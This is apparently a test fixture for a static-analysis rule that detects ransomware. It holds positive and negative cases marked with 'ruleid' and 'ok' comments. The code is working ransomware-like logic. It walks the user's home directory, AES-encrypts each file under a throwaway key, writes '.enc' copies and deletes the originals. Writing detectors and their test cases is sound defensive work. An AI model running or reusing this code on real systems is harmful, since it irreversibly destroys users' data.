import os

from Crypto.Cipher import AES
from cryptolib import encrypt_bytes

KEY = os.urandom(32)


def encrypt_file(path):
    with open(path, "rb") as f:
        data = f.read()
    cipher = AES.new(KEY, AES.MODE_EAX)
    # ruleid: python-ransomware-walk-encrypt-destroy
    ciphertext, tag = cipher.encrypt_and_digest(data)
    with open(path + ".enc", "wb") as f:
        f.write(cipher.nonce + tag + ciphertext)
    os.remove(path)


def lock(path):
    with open(path, "rb") as fh:
        # ruleid: python-ransomware-walk-encrypt-destroy
        locked = encrypt_bytes(fh.read(), KEY)
    with open(path + ".locked", "wb") as fh:
        fh.write(locked)


def decrypt_file(path):
    # ok: python-ransomware-walk-encrypt-destroy
    return AES.new(KEY, AES.MODE_EAX).decrypt(open(path, "rb").read())


for root, dirs, files in os.walk(os.path.expanduser("~")):
    for name in files:
        # ruleid: python-ransomware-walk-encrypt-destroy
        encrypt_file(os.path.join(root, name))
